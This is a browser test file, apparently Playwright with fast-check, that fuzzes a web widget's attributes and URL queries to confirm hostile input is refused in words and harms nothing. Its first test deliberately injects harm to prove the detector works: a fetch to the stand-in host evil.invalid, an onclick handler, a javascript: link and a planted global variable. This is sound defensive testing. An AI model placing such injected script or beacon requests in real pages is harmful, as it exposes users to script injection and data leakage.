// Hostile pages, links and posts: their input is refused in words, and nothing of it runs, hangs, or reaches another
// widget. hostile-results.spec.ts covers recorded results, frame.spec.ts covers messages of frames.
import fc from 'fast-check';
import { anyText, sample } from '../helpers/hostile.ts';
import { expectWorking, lookOf, post } from '../helpers/attacked-post.ts';
import { expect, test } from '../helpers/chromium-test.ts';
import { expectUnharmed, watchHarm } from '../helpers/harm.ts';
import { HOST } from '../helpers/tag.ts';

const SEED = Math.floor(Math.random() * 2 ** 32);

// The pages’ own policy would stop much of what our code might let through.
test.use({ bypassCSP: true });

test.beforeEach(() => console.log(`seed ${SEED}`));

test('these tests notice harm: a request, a variable, markup in the page or in a widget, a dialog', async ({
  openPage,
  allowErrors,
}) => {
  allowErrors(/net::ERR_|evil\.invalid/);
  const page = await openPage('isolated', 'embed.html');
  const harm = watchHarm(page);
  await expect(page.locator('[data-strategy=serial]')).toBeVisible();
  await expectUnharmed(harm);
  await page.evaluate(async () => {
    await fetch('http://evil.invalid/told').catch(() => {});
    Object.assign(window, { pwned: 1 });
    const put = (place: ParentNode | null | undefined, markup: string) =>
      place?.append(document.createRange().createContextualFragment(markup));
    put(document.querySelector('#note'), '<b>bold</b>');
    put(document.body, '<p onclick="x()"><a href="javascript:x()">x</a></p>');
    put(document.querySelector('race-lane')?.shadowRoot, '<style>*{}</style>');
    document.querySelector('#alone')?.setAttribute('href', '//evil.invalid/?x');
    alert('hello');
  });
  expect((await harm()).sort()).toEqual([
    '<a>: //evil.invalid/?x',
    '<a>: http://evil.invalid/?x',
    '<a>: javascript:x()',
    '<b>: in a text of the page',
    '<p>: onclick',
    '<style>: does not belong here',
    'dialog: hello',
    'request: http://evil.invalid/told',
    'variable: pwned',
  ]);
});

test('3000 generated attributes are read or refused in words, and another widget stays as it was', async ({
  openPage,
  sites,
}) => {
  const page = await openPage('isolated', HOST);
  const harm = watchHarm(page);
  const { neighbour, attacked } = await post(page);
  const before = await lookOf(neighbour);
  sites.isolated.requests.length = 0;
  const isRemoved = fc.constantFrom(true, true, false);
  const change = fc.record({ choice: fc.nat(), text: anyText, isRemoved });
  const wrong = await attacked.evaluate(
    async (element, rounds) => {
      const names = (element.constructor as any).observedAttributes.filter(
        // Results are read asynchronously and have tests of their own. A frame is requested, not refused.
        (name: string) => name !== 'results' && name !== 'isolate',
      );
      const wrong: string[] = [];
      let told = 0;
      element.addEventListener('race-error', (event) => {
        const { code, message } = (event as CustomEvent).detail;
        told += 1;
        if (code !== 'invalid-option' || !/^`\w+` takes /.test(message)) wrong.push(message);
      });
      for (const [round, { choice, text, isRemoved }] of rounds.entries()) {
        const name = names[choice % names.length];
        const before = told;
        element.setAttribute(name, text);
        const refused = told > before;
        if (round % 20 === 0) {
          const isShown = () => element.shadowRoot?.querySelector('[part=problem]') !== null;
          const endMs = performance.now() + 20_000;
          await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
          while (refused && !isShown() && performance.now() < endMs) {
            await new Promise((resolve) => setTimeout(resolve, 20));
          }
          const shown = isShown();
          if (refused && !shown) wrong.push(`round ${round}: refused, and nothing shown`);
        }
        if (isRemoved) element.removeAttribute(name);
      }
      for (const name of names) element.removeAttribute(name);
      if (told < 1000) wrong.push(`only ${told} were refused`);
      return wrong;
    },
    sample(change, 3000, SEED),
  );
  expect(wrong).toEqual([]);
  await expectUnharmed(harm);
  expect(await lookOf(neighbour)).toEqual(before);
  expect(sites.isolated.requests.filter((path) => !path.startsWith('/assets/'))).toEqual([]);
  await expectWorking(attacked);
});

// unit/any-options.test.ts reads thousands of queries, without a page.
test('sixty generated queries each open a page that works, or says what is wrong with the query', async ({
  openPage,
}) => {
  test.setTimeout(400_000);
  const name = fc.constantFrom(
    ...'workload strategy tasks size wait list workers executor switch-interval seed'.split(' '),
    ...'strategies repeats theme guess isolate results service-worker onload src x'.split(' '),
  );
  // A server takes at most about 16 KB of address.
  const text = anyText.map((long) => long.slice(0, 300));
  const address = fc.record({
    path: fc.constantFrom('embed.html', 'index.html'),
    pairs: fc.array(fc.tuple(name, text), { minLength: 20, maxLength: 20 }),
  });
  const page = await openPage('isolated', 'embed.html');
  const harm = watchHarm(page);
  const { origin } = new URL(page.url());
  for (const { path, pairs } of sample(address, 60, SEED + 1)) {
    const query = new URLSearchParams(pairs);
    await page.goto(`${origin}/${path}?${query}`);
    const lane = page.locator('race-lane').first();
    const drawn = lane.locator('[part=problem], [data-strategy]').first();
    await expect(drawn, `?${query}`).toBeVisible();
    await expectUnharmed(harm);
  }
});
